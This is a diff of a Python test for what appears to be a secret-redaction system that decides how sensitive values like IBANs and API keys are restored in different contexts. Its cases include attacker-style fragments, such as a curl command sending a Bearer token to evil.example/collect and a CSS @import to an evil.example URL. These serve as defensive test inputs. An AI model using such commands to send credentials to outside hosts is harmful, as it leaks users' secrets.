@@ -52,7 +52,7 @@ def test_a_reply_of_look_alikes_restores_end_to_end(tmp_path, monkeypatch):
         ("https://x.example/ then " + "a" * 200 + "=", "", "url"),  # glued to a "="
         ("[link](//x.example/", ")", "url"),
         ("Click: https://paste.evil.example/raw?x=", "", "url"),  # a URL placeholder restored right before it
-        ("Ping ", ".evil.example for status", "url"),  # a DNS label
+        ("Ping ", ".evil.example for status", "glued"),  # a DNS label
         ("Verify here: evil.example/verify?iban=", "", "url"),
         ("mailto:", "@evil.example", "url"),
         ("curl -H 'Authorization: Bearer ", "' evil.example/collect", "url"),
@@ -61,7 +61,14 @@ def test_a_reply_of_look_alikes_restores_end_to_end(tmp_path, monkeypatch):
         ('<style>@import "https://evil.example/a.css? q=', '";</style>', "url"),
         ('{"note": "}", "iban": "', '"}', "tool"),
         ('{ab> "iban": " ', '"', "tool"),
-        ('["', '"]', "url"),
+        ('["', '"]', "glued"),
+        ('api_key = "', '"', "glued"),  # code assigns it
+        ("KEY = ", "\n", "glued"),
+        ("Ihre IBAN lautet \u201e", "\u201c.", "text"),  # quotation marks in prose (ux20 M1)
+        ('Su IBAN es "', '".', "text"),
+        ("IBAN '", "' ok", "text"),
+        ("B: \u00ab", "\u00bb.", "text"),
+        ('a = 1\nYour key "', '" leaked.', "text"),  # "=" ends an earlier line
         ("```\nexport KEY=abc\n\nKEY2 ", "\n", "tool"),
         ("See [docs](https://x.example/help).\n\nYour password is ", ".", "text"),
         ("Your card (", ") is saved.", "text"),
